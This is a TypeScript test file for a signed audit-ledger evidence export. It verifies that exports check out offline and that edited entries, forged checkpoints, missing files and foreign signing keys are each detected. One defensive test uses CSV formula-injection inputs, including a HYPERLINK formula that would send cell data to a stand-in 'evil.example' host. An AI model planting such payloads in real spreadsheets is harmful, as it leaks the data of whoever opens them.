// Evidence exports from a real ledger, checked offline: every format and container verifies, and
// every edit of an export file is found and named.
import { createWriteStream, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createHash, generateKeyPairSync, sign as edSign } from 'node:crypto';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestVault, type TestVault } from '../test/helpers/services.js';
import { appendSamples, createTestLedger, type TestLedger } from '../test/helpers/ledger.js';
import { GatehouseError } from '../shared/errors.js';
import { parse as parseCsv } from 'csv-parse/sync';
import { CSV_COLUMNS, prepareEvidenceExport, type ExportRequest } from './evidence-export.js';
import { folderSink, zipSink } from './evidence-sink.js';
import { verifyEvidence } from './evidence-verify.js';

let vault: TestVault;
let t: TestLedger;
let work: string;
const auditor = { kind: 'human' as const, id: 'auditor@example.com', display: 'The Auditor' };

beforeAll(async () => {
  vault = await createTestVault();
  t = await createTestLedger(vault);
  await appendSamples(t.ledger, 300);
  await t.ledger.checkpoint();
  await appendSamples(t.ledger, 300, 300);
  await t.ledger.checkpoint();
  await appendSamples(t.ledger, 100, 600);
  work = mkdtempSync(path.join(os.tmpdir(), 'gatehouse-evidence-'));
});
afterAll(async () => {
  await t?.close();
});

let n = 0;
async function exportTo(request: ExportRequest, container: 'folder' | 'zip' = 'folder'): Promise<string> {
  const prepared = await prepareEvidenceExport({ ledger: t.ledger, signer: vault.store }, request);
  const out = path.join(work, `export-${++n}${container === 'zip' ? '.zip' : ''}`);
  await prepared.write(container === 'zip' ? zipSink(createWriteStream(out)) : folderSink(out), auditor);
  return out;
}

const edit = (file: string, fn: (text: string) => string) => writeFileSync(file, fn(readFileSync(file, 'utf8')));
const kinds = (r: { problems: { kind: string }[] }) => r.problems.map((p) => p.kind);

describe('exporting', () => {
  it('writes entries, covering checkpoints, proofs, keys and a signed manifest, and records the export', async () => {
    const before = await t.ledger.head();
    const dir = await exportTo({ fromSeq: 250, toSeq: 650, format: 'jsonl' });
    expect(readdirSync(dir).sort()).toEqual(['README.txt', 'checkpoints.json', 'entries.jsonl', 'keys.json', 'manifest.json', 'manifest.sig.json', 'proofs.json']);
    const manifest = JSON.parse(readFileSync(path.join(dir, 'manifest.json'), 'utf8'));
    // 650 was past the latest checkpoint (600), so the export signed one over all 700 entries.
    expect(manifest).toMatchObject({ format: 'gatehouse-evidence/1', range: { firstSeq: 250, lastSeq: 650, entries: 401 }, coveringCheckpoint: 700, requestedBy: auditor });
    for (const [name, digest] of Object.entries(manifest.files as Record<string, { sha256: string }>)) {
      expect(createHash('sha256').update(readFileSync(path.join(dir, name))).digest('hex'), name).toBe(digest.sha256);
    }
    const lines = readFileSync(path.join(dir, 'entries.jsonl'), 'utf8').trim().split('\n');
    expect(lines).toHaveLength(401);
    expect(JSON.parse(lines[0]!)).toEqual(await t.ledger.get(250));
    const checkpoints = JSON.parse(readFileSync(path.join(dir, 'checkpoints.json'), 'utf8'));
    expect(checkpoints.checkpoints.map((c: { treeSize: number }) => c.treeSize)).toEqual([300, 600, 700]);
    expect(checkpoints.consistency.map((c: { fromSize: number; toSize: number }) => [c.fromSize, c.toSize])).toEqual([[300, 600], [600, 700]]);

    const recorded = await t.ledger.get(before.size);
    expect(recorded).toMatchObject({ action: 'export.created', actor: auditor, details: { format: 'jsonl', firstSeq: 250, lastSeq: 650, entries: 401, coveringCheckpoint: 700 } });

    const report = await verifyEvidence(dir);
    expect(report.problems).toEqual([]);
    expect(report).toMatchObject({ ok: true, entries: 401, range: { firstSeq: 250, lastSeq: 650 }, coveringCheckpoint: 700 });
  });

  for (const format of ['csv', 'ocsf'] as const) {
    it(`writes ${format} that verifies offline, from a zip`, async () => {
      const zip = await exportTo({ fromSeq: 0, toSeq: 299, format }, 'zip');
      const report = await verifyEvidence(zip);
      expect(report.problems).toEqual([]);
      expect(report).toMatchObject({ ok: true, entries: 300, coveringCheckpoint: 300 });
    });
  }

  it('exports a time range: the entries recorded in [from, to)', async () => {
    const first = await t.ledger.get(0);
    const dir = await exportTo({ from: first.timestamp, to: new Date(Date.now() + 60_000).toISOString(), format: 'ocsf' });
    const report = await verifyEvidence(dir);
    expect(report.problems).toEqual([]);
    expect(report.range?.firstSeq).toBe(0);
    const manifest = JSON.parse(readFileSync(path.join(dir, 'manifest.json'), 'utf8'));
    expect(manifest.entries).toEqual({ file: 'entries.ocsf.jsonl', format: 'ocsf', ocsfVersion: '1.3.0' });
  });

  const bad: [string, ExportRequest, string, string][] = [
    ['a range that ends before it starts', { from: '2026-02-01T00:00:00Z', to: '2026-01-01T00:00:00Z' }, 'invalid_request', 'to'],
    ['a time and a sequence range at once', { from: '2026-01-01T00:00:00Z', fromSeq: 3 }, 'invalid_request', 'fromSeq'],
    ['a sequence past the end', { fromSeq: 0, toSeq: 10_000 }, 'invalid_request', 'toSeq'],
    ['an unknown format', { fromSeq: 0, format: 'xml' as never }, 'invalid_request', 'format'],
    ['a time that is not ISO 8601', { from: 'yesterday' }, 'invalid_request', 'from'],
  ];
  for (const [what, request, code, field] of bad) {
    it(`refuses ${what}, naming ${field}`, async () => {
      const err = await prepareEvidenceExport({ ledger: t.ledger, signer: vault.store }, request).catch((e: GatehouseError) => e);
      expect(err).toMatchObject({ code, field });
    });
  }

  it('answers not found for a time range with no entries, and writes nothing', async () => {
    const err = await prepareEvidenceExport({ ledger: t.ledger, signer: vault.store }, { from: '2001-01-01T00:00:00Z', to: '2001-02-01T00:00:00Z' }).catch((e: GatehouseError) => e);
    expect(err).toMatchObject({ code: 'not_found' });
  });

  it('refuses to write into a folder that is not empty', async () => {
    const dir = await exportTo({ fromSeq: 0, toSeq: 5 });
    expect(() => folderSink(dir)).toThrow(GatehouseError);
  });
});

describe('an edited export', () => {
  it('a changed entry line is found as entry-altered at that entry, and the file as changed', async () => {
    const dir = await exportTo({ fromSeq: 100, toSeq: 200 });
    edit(path.join(dir, 'entries.jsonl'), (s) => s.replace('"note":"sample 150"', '"note":"sample 15O"'));
    const report = await verifyEvidence(dir);
    expect(report.ok).toBe(false);
    expect(report.firstBadSeq).toBe(150);
    expect(report.problems).toEqual([
      { kind: 'file-changed', file: 'entries.jsonl', message: expect.stringMatching(/^entries.jsonl was changed: its SHA-256 is [0-9a-f]{64}, the manifest says [0-9a-f]{64}$/) },
      { kind: 'entry-altered', file: 'entries.jsonl', seq: 150, message: 'entry 150 (entries.jsonl line 51) was changed: it no longer hashes to its hash' },
    ]);
  });

  it('a changed entry with the manifest updated to match is found by the manifest signature and the entry hash', async () => {
    const dir = await exportTo({ fromSeq: 100, toSeq: 200 });
    edit(path.join(dir, 'entries.jsonl'), (s) => s.replace('"id":"mallory"', '').replace('"note":"sample 120"', '"note":"approved"'));
    const entries = readFileSync(path.join(dir, 'entries.jsonl'));
    edit(path.join(dir, 'manifest.json'), (s) => {
      const m = JSON.parse(s);
      m.files['entries.jsonl'] = { sha256: createHash('sha256').update(entries).digest('hex'), bytes: entries.length };
      return `${JSON.stringify(m, null, 2)}\n`;
    });
    const report = await verifyEvidence(dir);
    expect(kinds(report)).toEqual(['manifest-bad-signature', 'entry-altered']);
    expect(report.firstBadSeq).toBe(120);
  });

  it('a field added to an entry is a change too', async () => {
    const dir = await exportTo({ fromSeq: 100, toSeq: 110 });
    edit(path.join(dir, 'entries.jsonl'), (s) => s.replace('{"action":"scim.user.created"', '{"action":"scim.user.created","approvedBy":"ceo"'));
    const report = await verifyEvidence(dir);
    expect(report.problems).toContainEqual({ kind: 'entry-altered', file: 'entries.jsonl', seq: 100, message: 'entry 100 (entries.jsonl line 1) was changed: it no longer hashes to its hash' });
  });

  it('a deleted entry line is found as entry-missing at that entry', async () => {
    const dir = await exportTo({ fromSeq: 100, toSeq: 200 });
    edit(path.join(dir, 'entries.jsonl'), (s) => s.split('\n').filter((l) => !l.includes('"seq":170,')).join('\n'));
    const report = await verifyEvidence(dir);
    expect(report.firstBadSeq).toBe(170);
    expect(report.problems).toContainEqual({ kind: 'entry-missing', file: 'entries.jsonl', seq: 170, message: 'entries.jsonl line 71: entry 170 is missing' });
    expect(kinds(report)).toEqual(['file-changed', 'entry-missing']);
  });

  it('the last entries cut off are found as entry-missing and an unproven last entry', async () => {
    const dir = await exportTo({ fromSeq: 100, toSeq: 200 });
    edit(path.join(dir, 'entries.jsonl'), (s) => `${s.trim().split('\n').slice(0, 90).join('\n')}\n`);
    const report = await verifyEvidence(dir);
    expect(report.problems).toContainEqual({ kind: 'entry-missing', file: 'entries.jsonl', seq: 190, message: 'entries.jsonl ends at entry 189; the manifest says it runs to 200' });
    expect(kinds(report)).toContain('inclusion-proof-invalid');
  });

  it('a changed readable CSV column is found as rendering-changed, though the entry column is intact', async () => {
    const dir = await exportTo({ fromSeq: 0, toSeq: 20, format: 'csv' });
    edit(path.join(dir, 'entries.csv'), (s) => s.replace(/^(7,[^,]+,[^,]+,[^,]+,)identity:okta:0/m, '$1someone-else'));
    const report = await verifyEvidence(dir);
    expect(report.problems.map((p) => [p.kind, p.seq])).toEqual([['file-changed', undefined], ['rendering-changed', 7]]);
    expect(report.problems[1]!.message).toBe('entry 7 (entries.csv line 9): the CSV fields were changed and no longer say what the hashed entry says');
  });

  it('a changed OCSF field is found as rendering-changed', async () => {
    const dir = await exportTo({ fromSeq: 0, toSeq: 20, format: 'ocsf' });
    edit(path.join(dir, 'entries.ocsf.jsonl'), (s) => s.replace('"status_id":1', '"status_id":2'));
    const report = await verifyEvidence(dir);
    expect(report.problems).toContainEqual(expect.objectContaining({ kind: 'rendering-changed', seq: 0 }));
  });

  it('a forged checkpoint root is found, and the proofs against it fail', async () => {
    const dir = await exportTo({ fromSeq: 0, toSeq: 50 });
    edit(path.join(dir, 'checkpoints.json'), (s) => {
      const c = JSON.parse(s);
      c.checkpoints[0].rootHash = 'ab'.repeat(32);
      return JSON.stringify(c);
    });
    const report = await verifyEvidence(dir);
    expect(kinds(report)).toEqual(expect.arrayContaining(['file-changed', 'checkpoint-malformed']));
  });

  it('a truncated checkpoint signature is found as checkpoint-bad-signature', async () => {
    const dir = await exportTo({ fromSeq: 0, toSeq: 50 });
    edit(path.join(dir, 'checkpoints.json'), (s) => {
      const c = JSON.parse(s);
      c.checkpoints[0].signature = Buffer.from(c.checkpoints[0].signature, 'base64').subarray(0, 32).toString('base64');
      return JSON.stringify(c);
    });
    const report = await verifyEvidence(dir);
    expect(report.problems).toContainEqual({ kind: 'checkpoint-bad-signature', file: 'checkpoints.json', message: 'checkpoint at tree size 300: the signature is 32 bytes, not 64 (truncated or forged)' });
  });

  it('a file slipped in is found as file-unexpected; a file removed as file-missing', async () => {
    const dir = await exportTo({ fromSeq: 0, toSeq: 50 });
    writeFileSync(path.join(dir, 'approvals.json'), '[]');
    rmSync(path.join(dir, 'proofs.json'));
    const report = await verifyEvidence(dir);
    expect(report.problems).toEqual(
      expect.arrayContaining([
        { kind: 'file-missing', file: 'proofs.json', message: 'proofs.json is listed in the manifest but missing' },
        { kind: 'file-unexpected', file: 'approvals.json', message: 'approvals.json is not part of the export (not in the manifest)' },
      ]),
    );
  });

  it('an export re-signed with someone else’s key is refused against the trusted keys', async () => {
    const dir = await exportTo({ fromSeq: 0, toSeq: 50 });
    const trusted = await t.ledger.publicKeys();
    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
    const raw = publicKey.export({ format: 'jwk' }).x!;
    edit(path.join(dir, 'keys.json'), (s) => {
      const k = JSON.parse(s);
      k.keys = [{ version: 1, publicKey: Buffer.from(raw, 'base64url').toString('base64') }];
      return JSON.stringify(k);
    });
    const keys = readFileSync(path.join(dir, 'keys.json'));
    edit(path.join(dir, 'manifest.json'), (s) => {
      const m = JSON.parse(s);
      m.files['keys.json'] = { sha256: createHash('sha256').update(keys).digest('hex'), bytes: keys.length };
      return JSON.stringify(m);
    });
    const manifest = readFileSync(path.join(dir, 'manifest.json'));
    writeFileSync(path.join(dir, 'manifest.sig.json'), JSON.stringify({ keyName: 'gatehouse-ledger', keyVersion: 1, signature: edSign(null, manifest, privateKey).toString('base64') }));
    // Against its own keys.json the manifest checks out, but the checkpoints do not...
    expect(kinds(await verifyEvidence(dir))).toContain('checkpoint-bad-signature');
    // ...and against the keys the auditor trusts, the forgery is named.
    const report = await verifyEvidence(dir, { trustedKeys: trusted });
    expect(kinds(report)).toEqual(expect.arrayContaining(['key-not-trusted', 'manifest-bad-signature']));
  });
});

describe('CSV for spreadsheets', () => {
  it('quotes cells a spreadsheet would run as a formula, and the export still verifies', async () => {
    const { seq } = await t.ledger.append({
      action: 'scim.user.created',
      actor: { kind: 'idp', id: '@evil', display: '=HYPERLINK("https://evil.example/?"&A1,"click")' },
      subject: { type: 'user', id: '+1-555', display: '-2+3' },
      target: { type: 'directory', id: '\tcmd' },
    });
    const dir = await exportTo({ fromSeq: seq, toSeq: seq, format: 'csv' });
    const [, row] = parseCsv(readFileSync(path.join(dir, 'entries.csv'), 'utf8')) as string[][];
    const at = (column: string) => row![CSV_COLUMNS.indexOf(column as (typeof CSV_COLUMNS)[number])];
    expect([at('actor_id'), at('actor_display'), at('subject_id'), at('subject_display'), at('target_id')]).toEqual([
      "'@evil",
      '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
      "'+1-555",
      "'-2+3",
      "'\tcmd",
    ]);
    // The hashed entry itself is unchanged: the last column still carries the values as recorded.
    expect(JSON.parse(row!.at(-1)!)).toMatchObject({ actor: { id: '@evil' }, subject: { display: '-2+3' } });
    expect((await verifyEvidence(dir)).problems).toEqual([]);
  });
});
